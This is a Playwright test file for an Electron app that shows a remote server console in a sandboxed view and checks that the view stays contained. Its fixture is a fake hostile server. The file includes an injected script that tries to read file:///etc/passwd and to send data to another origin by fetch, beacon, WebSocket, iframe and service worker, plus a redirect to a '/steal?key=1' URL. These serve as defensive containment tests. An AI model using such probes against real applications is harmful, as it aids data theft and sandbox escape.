import { createHash } from 'node:crypto';
import { readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { type ElectronApplication, expect, type Page } from '@playwright/test';
import { frameWords } from '../../renderer/words/en';
import {
  accessWords,
  byHandWords,
  certificateWords,
  consoleWords,
  downloadWords,
  handTitles,
} from '../../renderer/words/en-by-hand';
import { loginWords } from '../../renderer/words/en-connect';
import { connectWords, homeWords } from '../../renderer/words/en-places';
import type { HandQuestion } from '../../shared/hand-work';
import { describeFailure } from '../../shared/words/failures';
import { expectAccessible } from './axe';
import { allAddresses, consoleQuestion, inConsole, openAsking, writeAsking } from './hand-fixture';
import { backupBytes, type HostileConsole, startHostileConsole } from './hostile-console';
import { button, heading } from './journey';
import { test as base } from './window';

type Opened = { readonly app: ElectronApplication; readonly page: Page };

/** A test with a console that is up to no good; `open` shows it with its certificate confirmed. */
const test = base.extend<{
  readonly hostile: HostileConsole;
  readonly open: (more?: Partial<HandQuestion>) => Promise<Opened>;
}>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright insists on a pattern.
  hostile: async ({}, use) => {
    const hostile = await startHostileConsole();
    await use(hostile);
    await hostile.stop();
  },
  open: async ({ folder, launch, hostile }, use) => {
    await use(async (more = {}) => {
      const question = consoleQuestion(more);
      const state = await writeAsking(folder, hostile, question, hostile.fingerprint());
      const { app, page } = await launch();
      await openAsking(app, page, state);
      return { app, page };
    });
  },
});

const kept = (folder: string): Promise<readonly string[]> =>
  readdir(join(folder, 'home', 'migrations', 'mhand0001', 'console-source')).catch(() => []);

const title = (code: Parameters<typeof describeFailure>[0]['code']): string =>
  describeFailure({ code, facts: {} }).title;

async function isShown({ app, page }: Opened, hostile: HostileConsole): Promise<void> {
  await expect(page.getByText(`127.0.0.1:${hostile.port}/`)).toBeVisible();
  await expect.poll(() => allAddresses(app)).toContain(`${hostile.origin}/`);
}

test('a console is loaded only after its certificate was confirmed', async ({
  folder,
  launch,
  hostile,
}) => {
  const state = await writeAsking(folder, hostile, consoleQuestion());
  const { app, page } = await launch();
  await openAsking(app, page, state);
  await expect(heading(page, handTitles.prepareBackup('OLD-EPP'))).toBeVisible();
  await expect(page.getByText(hostile.fingerprint())).toBeVisible();
  expect(hostile.asked).toEqual([]);
  await expectAccessible(app, page, 'by-hand-certificate');

  const paste = page.getByLabel(certificateWords.paste);
  await paste.fill('SHA256:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA');
  await expect(button(page, certificateWords.confirm)).toBeDisabled();
  await paste.fill(hostile.fingerprint());
  await button(page, certificateWords.confirm).click();
  await isShown({ app, page }, hostile);
  expect(await inConsole(app, 'document.title')).toBe('Made-up console');
  await expect(page.getByText('The page says “Ready to download”.')).toBeVisible();
  await expectAccessible(app, page, 'by-hand-console');

  await test.step('it lies where the page has room for it', async () => {
    const frame = await page.locator('[data-open="true"]').boundingBox();
    const bounds = await app.evaluate(({ BrowserWindow }) =>
      BrowserWindow.getAllWindows()[0]?.contentView.children.at(-1)?.getBounds(),
    );
    expect(bounds?.width).toBeGreaterThan(400);
    expect(Math.abs((bounds?.x ?? 0) - (frame?.x ?? 0))).toBeLessThanOrEqual(1);
    expect(Math.abs((bounds?.height ?? 0) - (frame?.height ?? 0))).toBeLessThanOrEqual(1);
  });
  await test.step('it gives way to a dialog', async () => {
    const views = () =>
      app.evaluate(
        ({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.contentView.children.length,
      );
    const before = (await views()) ?? 0;
    await page.keyboard.press('Control+j');
    await expect.poll(views).toBe(before - 1);
    await page.keyboard.press('Escape');
    await expect.poll(views).toBe(before);
  });
});

test('another certificate in the middle of the work closes the console', async ({
  open,
  hostile,
}) => {
  const opened = await open();
  await isShown(opened, hostile);
  const before = hostile.asked.length;
  hostile.changeCertificate();
  await button(opened.page, consoleWords.reload).click();
  await expect(opened.page.getByText(title('console.certificate-changed'))).toBeVisible();
  await expect.poll(() => allAddresses(opened.app)).toHaveLength(1);
  expect(hostile.asked).toHaveLength(before);
  await expectAccessible(opened.app, opened.page, 'by-hand-changed');

  const { page } = opened;
  await page.getByLabel(certificateWords.typeName('127.0.0.1')).fill('127.0.0.2');
  await expect(button(page, certificateWords.confirm)).toBeDisabled();
  await page.getByLabel(certificateWords.typeName('127.0.0.1')).fill('127.0.0.1');
  await button(page, certificateWords.confirm).click();
  await isShown(opened, hostile);
});

test('a console that never answers or leads elsewhere is said to', async ({ open, hostile }) => {
  test.slow();
  const other = await startHostileConsole('127.0.0.2');
  try {
    hostile.first = { to: `${other.origin}/steal?key=1` };
    const { app, page } = await open();
    await expect(page.getByText(title('console.elsewhere'))).toBeVisible();
    expect(other.asked).toEqual([]);
    expect((await allAddresses(app)).filter((url) => url.startsWith('https:'))).toEqual([]);
    hostile.first = 'silent';
    await button(page, consoleWords.again).click();
    await expect(page.getByText(title('console.no-answer'))).toBeVisible({ timeout: 40_000 });
    hostile.first = 'page';
    await button(page, consoleWords.again).click();
    await isShown({ app, page }, hostile);
  } finally {
    await other.stop();
  }
});

test('a page in the console reaches nothing but its own server', async ({
  open,
  hostile,
  folder,
}) => {
  const other = await startHostileConsole('127.0.0.2');
  try {
    const opened = await open();
    await isShown(opened, hostile);
    const { app, page } = opened;
    const log = join(folder, 'net.json');
    await app.evaluate(async ({ webContents }, path) => {
      const found = webContents
        .getAllWebContents()
        .find((each) => each.getURL().startsWith('https:'));
      await found?.session.netLog.startLogging(path);
    }, log);
    const tried = await inConsole<Record<string, unknown>>(
      app,
      attempts(other.origin, hostile.origin),
    );
    expect(tried).toEqual({
      world: [],
      opened: null,
      fetched: 'TypeError',
      file: 'TypeError',
      ownPage: 'TypeError',
      beacon: false,
      socket: 'error',
      image: 'error',
      frame: 'not loaded',
      worker: 'TypeError',
      states: ['denied'],
      camera: expect.stringMatching(/^Not(Allowed|Found)Error$/),
      clipboard: 'NotAllowedError',
      pickers: 'undefined undefined',
      peer: expect.stringMatching(/refused|failed/),
      own: 404,
    });
    await inConsole(app, `void (location.href = '${other.origin}/gone')`);
    await inConsole(app, "void (location.href = 'file:///etc/passwd')");
    await inConsole(app, "void (location.href = 'app://epp/index.html')");
    await page.waitForTimeout(500);
    expect(await allAddresses(app)).toContain(`${hostile.origin}/`);
    expect(await allAddresses(app)).toHaveLength(2);
    expect(other.asked).toEqual([]);
    await expect(page.getByText(/A new window was not opened/).first()).toBeVisible();
    await app.evaluate(async ({ webContents }) => {
      const found = webContents
        .getAllWebContents()
        .find((each) => each.getURL().startsWith('https:'));
      await found?.session.netLog.stopLogging();
    });
    // Not even names were looked up.
    expect((await readFile(log, 'utf8')).includes('prefetched.invalid')).toBe(false);
    await test.step('its door to this program is closed', async () => {
      const preferences = await app.evaluate(({ webContents }) => {
        const found = webContents
          .getAllWebContents()
          .find((each) => each.getURL().startsWith('https:'));
        const all = (
          found as unknown as { getLastWebPreferences: () => Record<string, unknown> }
        ).getLastWebPreferences();
        const names = ['sandbox', 'contextIsolation', 'nodeIntegration', 'preload', 'webSecurity'];
        return Object.fromEntries(names.map((name) => [name, all[name] ?? null]));
      });
      expect(preferences).toEqual({
        ...{ sandbox: true, contextIsolation: true, nodeIntegration: false },
        ...{ preload: null, webSecurity: true },
      });
    });
  } finally {
    await other.stop();
  }
});

/** What a page might try, and what became of each. */
const attempts = (other: string, own: string): string => `(async () => {
  const name = (thrown) => thrown.name;
  const link = document.createElement('link');
  link.rel = 'dns-prefetch';
  link.href = 'https://prefetched.invalid/';
  document.head.append(link);
  const load = (tag, source) => new Promise((resolve) => {
    const element = document.createElement(tag);
    element.onload = () => resolve('loaded');
    element.onerror = () => resolve('error');
    element.src = source;
    document.body.append(element);
  });
  const frame = document.createElement('iframe');
  frame.src = '${other}/key';
  document.body.append(frame);
  await new Promise((resolve) => setTimeout(resolve, 500));
  const asked = await Promise.all(['notifications', 'geolocation', 'camera', 'midi'].map((each) =>
    navigator.permissions.query({ name: each }).then(({ state }) => state)));
  let peer = 'refused';
  try {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.2:3478' }] });
    connection.createDataChannel('x');
    await connection.setLocalDescription();
    await new Promise((resolve) => setTimeout(resolve, 300));
    peer = connection.localDescription?.sdp.includes('a=candidate') ? 'candidates' : 'failed';
  } catch {}
  let inside = 'not loaded';
  try { if (frame.contentDocument === null) inside = 'not loaded'; } catch {}
  return {
    world: ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer', 'epp']
      .filter((each) => globalThis[each] !== undefined),
    opened: window.open('${other}/popup'),
    fetched: await fetch('${other}/key', { mode: 'no-cors' }).then(() => 'got', name),
    file: await fetch('file:///etc/passwd').then(() => 'got', name),
    ownPage: await fetch('app://epp/index.html').then(() => 'got', name),
    beacon: (() => { try { return navigator.sendBeacon('${other}/beacon', 'x') && false; } catch { return false; } })(),
    socket: await new Promise((resolve) => {
      try {
        const socket = new WebSocket('${other}'.replace('https', 'wss'));
        socket.onopen = () => resolve('open');
        socket.onerror = () => resolve('error');
      } catch { resolve('error'); }
    }),
    image: await load('img', '${other}/x.png'),
    frame: inside,
    worker: await navigator.serviceWorker.register('${other}/worker.js').then(() => 'registered', () => 'TypeError'),
    states: [...new Set(asked)],
    camera: await navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'got', name),
    clipboard: await navigator.clipboard.readText().then(() => 'got', name),
    pickers: typeof showOpenFilePicker + ' ' + typeof showSaveFilePicker,
    peer,
    own: (await fetch('${own}/nothing')).status,
  };
})()`;

test('a download is caught under a harmless name, and goes on where it broke off', async ({
  open,
  hostile,
  folder,
}) => {
  const fields = [{ name: 'backupFile', label: 'The downloaded backup', form: 'file' }] as const;
  const opened = await open({ operation: 'backup', fields });
  await isShown(opened, hostile);
  const { app, page } = opened;
  const ready = page.getByText(downloadWords.states.ready);
  const press = (path: string) => inConsole(app, `void (location.href = '${path}')`);
  await press('/backup');
  await expect(ready).toBeVisible();
  const sha256 = createHash('sha256').update(backupBytes).digest('hex');
  await expect(page.getByText(sha256)).toBeVisible();
  await expect(page.getByText(byHandWords.caught('epp-backup.eppb'))).toBeVisible();
  await expect(button(page, byHandWords.done)).toBeEnabled();
  await expectAccessible(app, page, 'by-hand-download');

  await press('/cut');
  await expect(page.getByText(byHandWords.caught('cut.eppb'))).toBeVisible({ timeout: 20_000 });
  await expect(page.getByText(sha256)).toBeVisible();
  expect(hostile.asked.filter((path) => path === '/cut').length).toBeGreaterThan(1);

  await press('/evil-name');
  await expect.poll(() => kept(folder)).toContain('x');
  expect(await readdir(join(folder, 'home', 'migrations'))).toEqual(['mhand0001']);

  for (const path of ['/html-as-file', '/html-said', '/empty']) {
    await press(path);
    await expect(page.getByText(title('console.not-a-backup'))).toBeVisible();
    await press('/evil-name');
    await expect(ready).toBeVisible();
  }
  await press('/huge');
  await expect(page.getByText(title('console.large-file'))).toBeVisible();
  await expectAccessible(app, page, 'by-hand-large');
  await test.step('the console stays within its part of the page', async () => {
    const pane = await page.locator('section:has(> [data-open="true"])').boundingBox();
    const bounds = await app.evaluate(({ BrowserWindow }) =>
      BrowserWindow.getAllWindows()[0]?.contentView.children.at(-1)?.getBounds(),
    );
    const bottom = (bounds?.y ?? 0) + (bounds?.height ?? 0);
    expect(bottom).toBeLessThanOrEqual((pane?.y ?? 0) + (pane?.height ?? 0) + 1);
  });
  await button(page, downloadWords.giveUp).click();
  await expect(page.getByText(title('console.large-file'))).toBeHidden();
  await expect
    .poll(async () => [...(await kept(folder))].sort())
    .toEqual(['cut.eppb', 'epp-backup.eppb', 'x', 'x-2', 'x-3', 'x-4']);
});

test('the key is taken from what is selected, and the clipboard forgets it', async ({
  open,
  hostile,
}) => {
  const opened = await open();
  await isShown(opened, hostile);
  const { app, page } = opened;
  await button(page, byHandWords.useSelection).click();
  await expect(page.getByText(title('console.nothing-selected'))).toBeVisible();
  await inConsole(app, "void (location.href = '/key')");
  await expect.poll(() => allAddresses(app)).toContain(`${hostile.origin}/key`);
  const key = 'N07AAAAACCCCDDDD';
  await app.evaluate(({ clipboard }, text) => clipboard.writeText(text), key);
  await inConsole(app, "getSelection().selectAllChildren(document.getElementById('key'))");
  await button(page, byHandWords.useSelection).click();
  const field = page.getByLabel('System Backup Key', { exact: true });
  await expect(field).toHaveValue(key);
  expect(await app.evaluate(({ clipboard }) => clipboard.readText())).toBe('');

  await field.fill('');
  await app.evaluate(({ clipboard }, text) => clipboard.writeText(text), key);
  await field.press('ControlOrMeta+v');
  await expect(field).toHaveValue(key);
  await expect.poll(() => app.evaluate(({ clipboard }) => clipboard.readText())).toBe('');
});

test('the file chooser of the page gets the one file that was checked', async ({
  open,
  hostile,
  folder,
}) => {
  const path = join(folder, 'restore-me.eppb');
  await writeFile(path, backupBytes);
  const sha256 = createHash('sha256').update(backupBytes).digest('hex');
  const file = { path, size: backupBytes.length, sha256 };
  const opened = await open({ operation: 'importBackup', file, needsKey: true, fields: [] });
  await isShown(opened, hostile);
  const { app, page } = opened;
  await inConsole(app, "void (location.href = '/import')");
  await expect.poll(() => allAddresses(app)).toContain(`${hostile.origin}/import`);
  const choose = () => inConsole(app, "document.getElementById('file').click()");
  await choose();
  await expect(page.getByText(consoleWords.handed.handed('restore-me.eppb'))).toBeVisible();
  expect(await inConsole(app, "document.getElementById('file').files[0].name")).toBe(
    'restore-me.eppb',
  );
  await expectAccessible(app, page, 'by-hand-import');

  await writeFile(path, 'changed meanwhile');
  await choose();
  await expect(page.getByText(title('console.file-differs'))).toBeVisible();
  await writeFile(path, backupBytes);
  await choose();
  await expect(page.getByText(consoleWords.handed.handed('restore-me.eppb'))).toBeVisible();
  await inConsole(app, "document.getElementById('send').click()");
  await expect.poll(() => hostile.uploads).toEqual([{ name: 'restore-me.eppb', sha256 }]);
});

test('a page that asks for a file gets none where the step has none', async ({ open, hostile }) => {
  const opened = await open();
  await isShown(opened, hostile);
  const { app, page } = opened;
  await inConsole(app, "void (location.href = '/import')");
  await expect.poll(() => allAddresses(app)).toContain(`${hostile.origin}/import`);
  await inConsole(app, "document.getElementById('file').click()");
  await expect(page.getByText(consoleWords.refusals.chooser())).toBeVisible();
  expect(await inConsole(app, "document.getElementById('file').files.length")).toBe(0);
});

test('a page of 50 MB of text does not hold the window up', async ({ open, hostile }) => {
  test.slow();
  const opened = await open();
  await isShown(opened, hostile);
  const { app, page } = opened;
  await inConsole(app, "void (location.href = '/big-text')");
  await expect.poll(() => allAddresses(app)).toContain(`${hostile.origin}/big-text`);
  for (let look = 0; look < 8; look += 1) {
    const begun = Date.now();
    await page.getByLabel(byHandWords.by).fill(`Somebody ${look}`);
    await app.evaluate(({ app: electron }) => electron.getName());
    expect(Date.now() - begun).toBeLessThan(2500);
    await page.waitForTimeout(500);
  }
  await button(page, consoleWords.back).click();
  await expect.poll(() => allAddresses(app), { timeout: 30_000 }).toContain(`${hostile.origin}/`);
  await expect(page.getByText('The page says “Ready to download”.')).toBeVisible();
});

test('a server without SSH is entered with its web port alone', async ({ app, page }) => {
  await page.getByRole('button', { name: homeWords.start }).click();
  const fields = page.getByRole('group', { name: frameWords.sides.source });
  await fields.getByRole('switch').check();
  await expect(fields.getByLabel(accessWords.port)).toHaveValue('443');
  await expect(fields.getByLabel(accessWords.user)).toHaveValue('root');
  await expect(fields.getByText(loginWords.title)).toBeHidden();
  await fields.getByLabel(accessWords.port).fill('99999');
  await button(page, connectWords.start).click();
  await expect(fields.getByText(connectWords.portBad)).toBeVisible();
  await expectAccessible(app, page, 'connect-web');
});

test('the page can be used in small windows', async ({ open, hostile }) => {
  const opened = await open();
  const { app, page } = opened;
  const resize = (width: number, height: number, zoom = 1) =>
    app.evaluate(
      ({ BrowserWindow }, [wide, high, factor]) => {
        const window = BrowserWindow.getAllWindows()[0];
        window?.setMinimumSize(400, 300);
        window?.setContentSize(wide, high);
        window?.webContents.setZoomFactor(factor);
      },
      [width, height, zoom] as const,
    );
  await resize(1440, 900);
  await isShown(opened, hostile);
  await expectAccessible(app, page, 'by-hand-large-window');
  await resize(960, 640);
  const console = page.getByText(byHandWords.views.console, { exact: true });
  await console.click();
  await expect(page.locator('[data-open="true"]')).toBeVisible();
  await expectAccessible(app, page, 'by-hand-small-console');
  await page.getByText(byHandWords.views.guide, { exact: true }).click();
  await expect(page.getByText('Press Create.')).toBeVisible();
  await expectAccessible(app, page, 'by-hand-small-steps');
  await resize(1024, 768, 2);
  await expectAccessible(app, page, 'by-hand-zoomed');
  await console.click();
  await expect(page.locator('[data-open="true"]')).toBeVisible();
  await resize(1200, 800);
});
